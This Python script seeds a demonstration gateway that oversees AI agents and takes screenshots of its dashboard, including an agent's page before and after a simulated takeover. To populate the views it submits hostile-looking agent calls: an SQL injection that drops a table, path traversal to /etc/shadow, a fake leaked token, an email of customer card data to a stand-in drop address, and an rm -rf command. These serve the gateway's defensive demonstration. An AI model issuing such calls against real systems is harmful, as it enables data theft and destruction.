"""Writes `docs/screenshots`: every page of the cockpit in light, dark and narrow, over the demonstration's gateway.

`scripts/screenshots.py takeover` writes one agent's page before and after a simulated takeover, and nothing else.
"""

from __future__ import annotations

import io
import shutil
import sys
import tempfile
import time
from contextlib import closing
from pathlib import Path
from typing import Any, Final

from PIL import Image
from playwright.sync_api import Browser, Page, sync_playwright

from aegis.bootstrap.credentials import create_key
from aegis.bootstrap.state import open_state
from aegis.cli.demo.stage import PERSON, Stage, stage

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
from support.scripted_model import scripted_model

OUT: Final = Path(__file__).resolve().parents[1] / "docs" / "screenshots"
CHROMIUM: Final = "/usr/bin/chromium"
COLOURS: Final = 48  # a palette of that size keeps every page under some 60 KB
SIZES: Final[dict[str, dict[str, Any]]] = {
    "light": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "light"},
    "dark": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "dark"},
    "narrow": {"viewport": {"width": 360, "height": 720}, "color_scheme": "light"},
}
WORKED: Final = 150  # rounds of an agent's work before somebody takes it over
WISH: Final = "notes about what somebody earns wait for an approval"
DRAFT: Final = {
    "name": "notes-about-pay",
    "description": "notes about pay wait for a person",
    "select": {"tool": ["post_note"]},
    "deny": {"properties": {"text": {"type": "string", "pattern": "(?i)salar|wage|earns"}}, "required": ["text"]},
    "outcome": "require_approval",
    "explanation": "A note is held where its text names a salary, a wage or what somebody earns; other words pass.",
    "cases": [
        {"tool": "post_note", "arguments": {"text": "Her salary is 70,000"}, "expect": "caught", "why": "says it"},
        {"tool": "post_note", "arguments": {"text": "what Ada earns"}, "expect": "caught", "why": "in other words"},
        {"tool": "post_note", "arguments": {"text": "her pay slip is here"}, "expect": "caught", "why": "a near miss"},
        {"tool": "post_note", "arguments": {"text": "the celery is fresh"}, "expect": "passes", "why": "sounds alike"},
    ],
}
MORE: Final = """
  run_command:
    risk: high
    irreversible: true
    effects: [exec]
    preview: {kind: shell, arguments: {command: /command}}
previews: {workspace: WORKSPACE}
"""


def main() -> int:
    """Take what was asked for."""
    if sys.argv[1:] == ["takeover"]:
        return take_over()
    return take_all() or take_over()


def take_over() -> int:
    """Let an agent work, take its page, let somebody else act in its name, and take the page again."""
    folder = Path(tempfile.mkdtemp(prefix="aegis-screenshots-"))
    try:
        with stage(folder) as here, sync_playwright() as playwright:
            with closing(open_state(here.config, here.home)) as state:
                key = create_key(state, roles=("agent",), agent="billing-bot", by="demo").text

            def decide(tool: str, session: str, /, **arguments: Any) -> None:
                call = {"tool": tool, "arguments": arguments, "session": session}
                here.gateway.ask("POST", "/v1/decisions", key, call)

            for number in range(WORKED):
                decide("read_file", f"invoice-{number // 4}", path=f"invoices/{number}.txt")
                decide("query_db", f"invoice-{number // 4}", sql=f"SELECT amount FROM invoices WHERE number = {number}")
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            options = SIZES["light"] | {"viewport": {"width": 1280, "height": 1120}}
            page = browser.new_context(base_url=here.url, reduced_motion="reduce", locale="en-GB", **options).new_page()
            sign_in(page, here.password)
            save_agent(page, "takeover-before")
            decide("query_db", "invoice-9000", sql=f"SELECT name, card FROM customers {'/* all of them */ ' * 900}")
            decide("send_email", "invoice-9000", to="drop77@paste.example", subject="list", body="see below")
            for number in range(6):
                decide("read_file", "invoice-9000", path=f"../../../../etc/shadow{number or ''}")
            save_agent(page, "takeover-after")
            browser.close()
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return 0


def save_agent(page: Page, name: str) -> None:
    """The page of the agent, once what was just decided is counted."""
    page.wait_for_timeout(9_000)
    page.goto("/agents/billing-bot")
    page.wait_for_timeout(900)
    save(page, name)


def take_all() -> int:
    """Seed the demonstration's gateway, and take every page in every size."""
    folder = Path(tempfile.mkdtemp(prefix="aegis-screenshots-"))
    shop = Path(tempfile.gettempdir(), "shop")  # pages show where it is, so it is the same for everybody
    shop.mkdir()
    try:
        with stage(folder) as here, sync_playwright() as playwright, scripted_model() as model:
            model.script = lambda _: DRAFT
            drafting = f"drafting: {{model: {{api: openai, url: {model.url}/v1, name: gpt-x, private: true}}}}\n"
            pages = seed(here, shop, drafting)
            shutil.rmtree(OUT, ignore_errors=True)
            OUT.mkdir(parents=True)
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            for size, options in SIZES.items():
                take(browser, here, pages, size, options)
            browser.close()
    finally:
        shutil.rmtree(folder, ignore_errors=True)
        shutil.rmtree(shop, ignore_errors=True)
    return 0


def seed(here: Stage, workspace: Path, drafting: str) -> dict[str, str]:
    """Calls of several agents, with their approvals; gives the path of each page by its name."""
    (workspace / "build").mkdir(parents=True)
    for number in range(40):
        (workspace / "build" / f"part{number}.o").write_bytes(bytes(800))
    (workspace / "settings.ini").write_text("[shop]\ncurrency = EUR\nretries = 3\n")
    here.config.write_text(here.config.read_text() + MORE.replace("WORKSPACE", str(workspace)) + drafting)
    time.sleep(3)  # the gateway reads its file again
    with closing(open_state(here.config, here.home)) as state:
        keys = {
            agent: create_key(state, roles=("agent",), agent=agent, by="demo").text
            for agent in ("support-bot", "release-bot", "research-bot")
        }

    def decide(agent: str, tool: str, session: str, /, **arguments: Any) -> Any:
        call = {"tool": tool, "arguments": arguments, "session": session}
        return here.gateway.ask("POST", "/v1/decisions", keys[agent], call)

    for number in range(34):
        decide("support-bot", "read_file", "ticket-4411", path=f"tickets/{4380 + number}.txt")
        decide("research-bot", "query_db", "prices", sql=f"SELECT price FROM offers WHERE shop = {number}")
    decide("research-bot", "query_db", "prices", sql="SELECT 1; DROP TABLE offers; --")
    decide("research-bot", "read_file", "prices", path="../../../../etc/shadow")
    decide("support-bot", "post_note", "ticket-4411", text="token ghp_" + "x7Kq2mVt9RbL4wNc8PzY1sDf6HgJ3aEu5QoT")
    mail = {"to": "ada@example.com", "subject": "Receipt 4411", "body": "Thank you, it is paid."}
    for answer in ("approve", "approve", "deny"):
        held = decide("support-bot", "send_email", "ticket-4411", **mail)["approval"]["id"]
        here.gateway.ask(
            "POST",
            f"/v1/approvals/{held}",
            here.approver_key,
            {"decision": answer, "reason": "checked with the customer"},
        )
    decide("support-bot", "send_email", "ticket-4412", **{**mail, "to": "grace@example.com"})
    command = "rm -rf build && sed -i 's/retries = 3/retries = 5/' settings.ini && touch built"
    decide("release-bot", "run_command", "release-7", command="git status")
    approval = decide("release-bot", "run_command", "release-7", command=command)["approval"]["id"]
    blocked = here.gateway.ask("GET", "/v1/receipts?decision=block&limit=1", here.auditor_key)["items"][0]
    time.sleep(2)  # the preview is made beside the request
    return {
        "now": "/",
        "approvals": "/approvals",
        "approval": f"/approvals/{approval}",
        "call": f"/calls/{blocked['receipt_id']}",
        "sessions": "/sessions",
        "session": "/sessions/ticket-4411?agent=support-bot",
        "violations": "/violations",
        "policies": "/policies",
        "draft": "/policies/draft",
        "playground": "/policies/playground",
        "agents": "/agents",
        "agent": "/agents/research-bot",
        "alerts": "/alerts",
        "audit": "/audit",
    }


def take(browser: Browser, here: Stage, pages: dict[str, str], size: str, options: dict[str, Any]) -> None:
    """Every page in one size."""
    context = browser.new_context(base_url=here.url, reduced_motion="reduce", locale="en-GB", **options)
    page = context.new_page()
    page.goto("/sign-in")
    save(page, f"sign-in-{size}")
    sign_in(page, here.password)
    for name, path in pages.items():
        page.goto(path)
        if name == "policies":
            editor = page.get_by_label("Configuration")
            editor.fill(editor.input_value().replace("query_db: {risk: medium", "query_db: {risk: critical"))
            page.get_by_role("button", name="Check and replay").click()
        if name == "draft":
            page.get_by_label("What is to be refused").fill(WISH)
            page.get_by_role("button", name="Draft", exact=True).click()
            page.get_by_text("Difference from what is in force").wait_for()
        if name == "violations":
            page.locator("#unusual").get_by_text("as of").wait_for()
        if name == "playground":
            page.get_by_role("button", name="Decide").click()
        page.wait_for_timeout(900)
        save(page, f"{name}-{size}")
    context.close()


def sign_in(page: Page, password: str) -> None:
    """Sign in as the demonstration's person."""
    page.goto("/sign-in")
    page.get_by_label("Name").fill(PERSON)
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/")


def save(page: Page, name: str) -> None:
    """One picture with a reduced palette."""
    image = Image.open(io.BytesIO(page.screenshot()))
    image.convert("RGB").quantize(COLOURS, dither=Image.Dither.NONE).save(OUT / f"{name}.png", optimize=True)


if __name__ == "__main__":
    sys.exit(main())
